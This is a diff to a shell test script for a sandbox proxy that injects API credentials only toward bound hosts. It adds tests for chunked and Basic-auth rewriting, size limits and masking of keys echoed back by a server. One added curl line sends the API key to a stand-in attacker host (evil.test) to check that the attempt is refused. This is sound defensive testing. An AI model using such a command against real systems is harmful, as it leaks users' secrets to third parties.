@@ -8,8 +8,12 @@
 # bound to, an unknown placeholder, a placeholder in the URL, credentials on
 # plain HTTP, on an L4 endpoint and on a `tls: skip` endpoint, reading the
 # secret file from inside, a credential file with the wrong mode or owner;
-# bodies are rewritten only on the endpoint that opts in and only up to the
-# bound.  Then the secret must be absent from every file under the state
+# bodies are rewritten only on the endpoint that opts in, up to the bound,
+# chunked too (a placeholder split across chunks); there a body that cannot
+# be rewritten (over the bound, chunked or not, another type) is refused or
+# cut where a placeholder passes; Basic credentials are decoded, rewritten
+# toward the bound host only, refused toward another and in plain HTTP; a
+# server quoting the key back in two pieces hands the sandbox only '*'s.  Then the secret must be absent from every file under the state
 # root (journal included, sealed segments decompressed), every event, the
 # runs' stdout/stderr and the daemon's log; the events validate against the
 # official OCSF 1.8.0 schema and carry which credential went to which host.
@@ -40,7 +44,7 @@ chmod 0600 "$KEYS/openai" "$KEYS/gh"
 # The upstream: TLS on 443 (every test name), plain HTTP on 80.  Each
 # request is logged (host, path) to seen.log; the answer says what it got.
 cat >"$T/cred_server.py" <<'PY'
-import json, ssl, sys, threading, urllib.parse
+import base64, json, ssl, sys, threading, time, urllib.parse
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 s1, s2 = (open(f).read().strip() for f in sys.argv[3:5])
 log = open(sys.argv[5], "a", buffering=1)
@@ -54,17 +58,41 @@ class H(BaseHTTPRequestHandler):
     def log_message(self, *a): pass
     def do_GET(self): self.answer(b"")
     def do_POST(self):
+        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
+            body = b""
+            while True:
+                size = int(self.rfile.readline().split(b";")[0], 16)
+                if not size:
+                    while self.rfile.readline() not in (b"\r\n", b"\n", b""): pass
+                    break
+                body += self.rfile.read(size)
+                self.rfile.readline()
+            return self.answer(body)
         n = int(self.headers.get("Content-Length", "0"))
         self.answer(self.rfile.read(n))
     def answer(self, body):
         log.write("%s %s %s\n" % (self.server.server_port, self.headers.get("Host"), self.path))
         auth = " ".join(self.headers.get(k, "") for k in ("Authorization", "X-Api-Key"))
+        if auth.startswith("Basic "):  # user:password, base64
+            auth = base64.b64decode(auth.split()[1]).decode("utf-8", "replace")
         text = body.decode("utf-8", "replace")
         form = ""
         if self.headers.get("Content-Type", "").startswith("application/x-www-form-urlencoded"):
             form = what(urllib.parse.parse_qs(text).get("key", [""])[0])
         elif self.headers.get("Content-Type", "").startswith("application/json") and body:
             text = json.dumps(json.loads(body))  # a body the rewrite broke would not parse
+        if self.path == "/v1/echo":  # a careless server quoting the key, in two writes
+            got = self.headers.get("Authorization", "").replace("Bearer ", "").encode()
+            a, b = b'{"echo": "' + got[:9], got[9:] + b'"}'
+            self.send_response(401)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(a) + len(b)))
+            self.end_headers()
+            self.wfile.write(a)
+            self.wfile.flush()
+            time.sleep(0.05)  # two TLS records, two reads on the proxy's side
+            self.wfile.write(b)
+            return
         out = json.dumps({"auth": what(auth), "body": what(text), "form": form,
                           "len": len(body)}).encode()
         self.send_response(200)
@@ -151,8 +179,35 @@ echo "form $($k -d "key=$OPENAI_API_KEY&x=1" https://body.test/v1/form)"
 echo "bodynot $($k -H 'Content-Type: application/json' -d "{\"key\": \"$OPENAI_API_KEY\"}" https://api.test/v1/json)"
 big=$(mktemp)
 { printf '{"key": "%s", "pad": "' "$OPENAI_API_KEY"; head -c 300000 /dev/zero | tr '\0' a; printf '"}'; } >"$big"
-echo "bodybig $($k -H 'Content-Type: application/json' --data-binary @"$big" https://body.test/v1/big)"
+echo "bodybig $($k -o /dev/null -w '%{http_code}' -H 'Content-Type: application/json' --data-binary @"$big" https://body.test/v1/big)"
 rm -f "$big"
+echo "octet $($k -o /dev/null -w '%{http_code}' -H 'Content-Type: application/octet-stream' --data-binary "k=$OPENAI_API_KEY" https://body.test/v1/octet)"
+echo "basic $($k -u "me:$OPENAI_API_KEY" https://api.test/v1/basic)"
+echo "echo $($k -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/v1/echo)"
+echo "basicunbound $($k -o /dev/null -w '%{http_code}' -u "me:$OPENAI_API_KEY" https://evil.test/v1/basicstolen)"
+echo "basicplain $($k -o /dev/null -w '%{http_code}' -u "me:$OPENAI_API_KEY" http://api.test/v1/basicplain)"
+/usr/bin/python3 - <<'PYC'
+# chunked request bodies (urllib sends an iterable body chunk by chunk)
+import json, urllib.error, urllib.request
+def post(name, url, pieces, ctype="application/json"):
+    r = urllib.request.Request(url, data=iter(pieces), method="POST", headers={"Content-Type": ctype})
+    try:
+        with urllib.request.urlopen(r, timeout=10) as a:
+            print(name, json.dumps(json.load(a)))
+    except urllib.error.HTTPError as e:
+        print(name, json.dumps({"status": e.code}))
+    except Exception as e:  # the connection cut
+        print(name, json.dumps({"status": "cut", "why": type(e).__name__}))
+pad = b"a" * 100000
+# the placeholder split across two chunks: rewritten, sent with a Content-Length
+post("chunked", "https://body.test/v1/chunked", [b'{"key": "glassbox:cred', b'ential:openai", "n": 1}'])
+# over the bound: a placeholder in the first chunks is refused before anything goes
+post("chunkbig", "https://body.test/v1/chunkbig", [b'{"key": "glassbox:credential:openai", "p": "'] + [pad] * 3 + [b'"}'])
+# over the bound, no placeholder: passes whole
+post("chunkclean", "https://body.test/v1/chunkclean", [b'{"p": "'] + [pad] * 3 + [b'"}'])
+# over the bound, the placeholder past it: the request is cut there
+post("chunklate", "https://body.test/v1/chunklate", [b'{"p": "'] + [pad] * 3 + [b'", "key": "glassbox:cre', b'dential:openai"}'])
+PYC
 /usr/bin/python3 - <<'PYC'
 import json, urllib.request
 r = urllib.request.Request("https://api.test/v1/py", headers={
@@ -179,11 +234,20 @@ check "tls: skip endpoint of a bound host refused" 403 "$(field skip)"
 check "JSON body rewritten where opted in" secret1 "$(j bodyopt .body)"
 check "form body rewritten (percent-encoded)" secret1 "$(j form .form)"
 check "body left alone where not opted in" placeholder "$(j bodynot .body)"
-check "body over the bound left alone" placeholder "$(j bodybig .body)"
+check "body over the bound with a placeholder refused" 413 "$(field bodybig)"
+check "a type that is not rewritten, with a placeholder, on an opted-in endpoint: refused" 403 "$(field octet)"
+check "Basic credentials: decoded, rewritten toward the bound host" secret1 "$(j basic .auth)"
+check "Basic credentials toward an unbound host refused" 403 "$(field basicunbound)"
+check "a server quoting the key back, split across two reads: masked" "$(printf '%*s' ${#S1} '' | tr ' ' '*')" "$(j echo .echo)"
+check "Basic credentials in plain HTTP refused" 403 "$(field basicplain)"
+check "chunked body, the placeholder split across chunks: rewritten" secret1 "$(j chunked .body)"
+check "chunked body over the bound with a placeholder refused" 413 "$(j chunkbig .status)"
+check "chunked body over the bound without one passes whole" 300009 "$(j chunkclean .len)"
+check "chunked body with a placeholder past the bound: cut, never completed" 403 "$(j chunklate .status)"
 [[ $FAILS == 0 ]] || { cut -c1-200 "$T/main.out" | sed 's/^/  out: /'; tail -5 "$T/main.err" | sed 's/^/  err: /'; }
 # what the refused requests never reached
 check "refused requests never reached upstream" "" \
-  "$(grep -E '/v1/(stolen|spoof|unknown|url|plain|l4|skip)' "$T/seen.log")"
+  "$(grep -E '/v1/(stolen|spoof|unknown|url|plain|l4|skip|big|octet|basicstolen|basicplain|chunkbig|chunklate)$' "$T/seen.log")"
 
 # Credential files the supervisor must refuse, with a clear message.
 cp "$KEYS/gh" "$KEYS/loose" && chmod 0644 "$KEYS/loose"
@@ -224,8 +288,10 @@ check "rewrite recorded: openai to api.test" yes "$(grep -q '^cred /v1/bound ope
 check "rewrite recorded: gh to api.test" yes "$(grep -q '^cred /gh gh api.test$' "$T/ev.txt" && echo yes)"
 check "body rewrite recorded" yes "$(grep -q '^cred /v1/json openai body.test$' "$T/ev.txt" && echo yes)"
 check "refusal: unbound host" yes "$(grep -q '^deny 4002 credential_unbound_host$' "$T/ev.txt" && echo yes)"
-check "refusal: unresolved placeholders (unknown, URL)" 2 "$(grep -c '^deny 4002 credential_unresolved$' "$T/ev.txt")"
-check "refusal: uninspected (plain HTTP: network + HTTP event, L4, tls: skip)" 4 "$(grep -c '^deny 400[12] credential_uninspected$' "$T/ev.txt")"
+check "refusal: unresolved placeholders (unknown, URL, big body, octet body, chunked big, chunked late)" 6 "$(grep -c '^deny 4002 credential_unresolved$' "$T/ev.txt")"
+check "refusal: uninspected (plain HTTP twice: network + HTTP event, L4, tls: skip)" 6 "$(grep -c '^deny 400[12] credential_uninspected$' "$T/ev.txt")"
+check "Basic rewrite recorded" yes "$(grep -q '^cred /v1/basic openai api.test$' "$T/ev.txt" && echo yes)"
+check "chunked body rewrite recorded" yes "$(grep -q '^cred /v1/chunked openai body.test$' "$T/ev.txt" && echo yes)"
 ocsf_full_schema || exit 1
 if [[ -n $OCSF_FULL ]]; then
 	python3 "$GB_SOURCE_DIR/tests/ocsf_validate.py" -q --official "$OCSF_FULL" "$T/main.jsonl" >"$T/val.txt" 2>&1
